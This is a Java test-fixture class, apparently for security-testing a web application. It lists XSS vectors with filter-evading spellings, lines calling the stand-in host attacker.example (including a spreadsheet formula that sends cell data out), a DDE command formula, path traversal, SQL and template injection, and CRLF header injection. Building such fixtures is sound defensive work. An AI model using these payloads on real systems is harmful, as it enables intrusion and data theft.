package jp.madoguchi.hostile;

import java.util.ArrayList;
import java.util.List;
import java.util.function.UnaryOperator;

/** What somebody types who wants to get in, or to break something. */
public final class Payloads {
    /** What a script would leave behind in the page if it ran. */
    public static final String TRIPWIRE = "__pwned";

    private static final String RUN = "window." + TRIPWIRE + "=1";

    private static final List<String> SCRIPTS = List.of(
            "<script>" + RUN + "</script>",
            "\"><img src=x onerror=" + RUN + ">",
            "'><svg/onload=" + RUN + ">",
            "<iframe srcdoc=\"<script>parent." + TRIPWIRE + "=1</script>\"></iframe>",
            "javascript:" + RUN,
            "</textarea><script>" + RUN + "</script>",
            "<a href=\"javascript:" + RUN + "\">押す</a>",
            "<details open ontoggle=" + RUN + ">");

    /** What a script must get out of, wherever its text was put. */
    private static final List<String> WAYS_OUT = List.of(
            "",
            "\">",
            "'>",
            "</textarea>",
            "</title>",
            "</style>",
            "</script>",
            "-->",
            "]]>",
            "</td></table>",
            "\\\"",
            "`}");

    /** What runs, loads or leads away, once it is markup, a script, an address or a template. */
    private static final List<String> RUNNING = List.of(
            "<script>" + RUN + "</script>",
            "<img src=x onerror=" + RUN + ">",
            "<svg/onload=" + RUN + ">",
            "<iframe srcdoc=\"<script>parent." + TRIPWIRE + "=1</script>\"></iframe>",
            "<details open ontoggle=" + RUN + ">x</details>",
            "<video><source onerror=" + RUN + "></video>",
            "<audio src=x onerror=" + RUN + ">",
            "<input autofocus onfocus=" + RUN + ">",
            "<iframe src=\"javascript:parent." + TRIPWIRE + "=1\"></iframe>",
            "<object data=\"data:text/html,<script>top." + TRIPWIRE + "=1</script>\"></object>",
            "<embed src=\"http://attacker.example/x.swf\">",
            "<link rel=stylesheet href=\"http://attacker.example/x.css\">",
            "<style>@import 'http://attacker.example/x.css';</style>",
            "<img src=http://attacker.example/x.png>",
            "<base href=\"http://attacker.example/\"><img src=x>",
            "<meta http-equiv=refresh content=\"0;url=http://attacker.example/\">",
            "<a href=\"javascript:" + RUN + "\">押す</a>",
            "<svg><animate onbegin=" + RUN + " attributeName=x dur=1s>",
            "<svg><script>" + RUN + "</script></svg>",
            "<marquee onstart=" + RUN + ">x</marquee>",
            "<math><mtext><table><mglyph><style><img src=x onerror=" + RUN + ">",
            "<noscript><p title=\"</noscript><img src=x onerror=" + RUN + ">\">",
            "<x onmouseover=" + RUN + " tabindex=1>乗せる</x>",
            "<img src=x onerror=alert(1)>",
            "<img src=x onerror=fetch('http://attacker.example/')>",
            "javascript:" + RUN,
            "${" + RUN + "}",
            "{{constructor.constructor('" + RUN + "')()}}",
            "';" + RUN + ";//",
            "\");" + RUN + ";//");

    /** A prime: goes through all of them, and through all ways out and spellings early. */
    private static final int STRIDE = 7_919;

    /** How it is written, so that a filter that looks for one spelling misses it. */
    private static final List<UnaryOperator<String>> SPELLINGS = List.of(
            text -> text,
            text -> text.replace("script", "ScRiPt")
                    .replace("onerror", "OnErRoR")
                    .replace("img", "iMG"),
            text -> text.replaceFirst(" (?=[a-z]+=)", "\t"),
            text -> text.replace("<", "&lt;").replace(">", "&gt;"),
            text -> text.replace("<", "\\u003c").replace(">", "\\u003e"));

    private static final List<String> OTHERS = List.of(
            "=HYPERLINK(\"http://attacker.example/?\"&A1,\"見る\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "' or '1'='1' -- ",
            "\"; drop table inquiry; --",
            "1 union select null, null, null",
            "${7*7}",
            "{{7*7}}",
            "#{7*7}",
            "%n%n%s%x",
            "{0} {1} '{",
            "[[${T(java.lang.Runtime).getRuntime()}]]",
            "\u202E正しい\u200B\u2066名\u0000前",
            "𠮷\uD83D\uDE00\u0301\u0301\u0301",
            "a\r\nSet-Cookie: x=1\r\n\r\n<b>",
            "NaN",
            "-1",
            "9223372036854775808",
            "",
            "　 \t ");

    private Payloads() {}

    public static List<String> scripts() {
        return SCRIPTS;
    }

    /** So many different ones: each way out of a text before each thing that runs, in several spellings, evenly chosen. */
    public static List<String> scripts(int howMany) {
        List<String> all = new ArrayList<>();
        for (UnaryOperator<String> spelling : SPELLINGS) {
            for (String running : RUNNING) {
                for (String out : WAYS_OUT) {
                    all.add(spelling.apply(out + running));
                }
            }
        }
        List<String> different = all.stream().distinct().toList();
        List<String> chosen = new ArrayList<>();
        for (int i = 0; i < howMany; i++) {
            chosen.add(different.get(i * STRIDE % different.size()));
        }
        return chosen;
    }

    /** Scripts, formulas, paths, SQL, templates, odd characters. */
    public static List<String> texts() {
        List<String> all = new ArrayList<>(SCRIPTS);
        all.addAll(OTHERS);
        return all;
    }

    /** Those and a text of a million characters. */
    public static List<String> withTheLongest() {
        List<String> all = new ArrayList<>(texts());
        all.add("窓".repeat(1_000_000));
        return all;
    }

    /** What stands where an id belongs, as it is written into an address. */
    public static List<String> ids() {
        return List.of(
                "0",
                "-1",
                "1",
                "9223372036854775807",
                "9223372036854775808",
                "abc",
                "１２３",
                "1e3",
                "0x1",
                "1;2",
                "..%2F..%2Fetc%2Fpasswd",
                "%2e%2e%2f",
                "%00",
                "1%00",
                "%0d%0aSet-Cookie:%20x=1",
                "1%20or%201=1",
                "%27%20or%20%271%27=%271",
                "$%7B7*7%7D",
                "%7B%7B7*7%7D%7D",
                "%23%7B7*7%7D",
                "%3Cscript%3Ewindow." + TRIPWIRE + "%3D1%3C%2Fscript%3E",
                "%3DHYPERLINK(1)",
                "%E2%80%AE1",
                "%ff%fe",
                "1".repeat(5_000));
    }
}
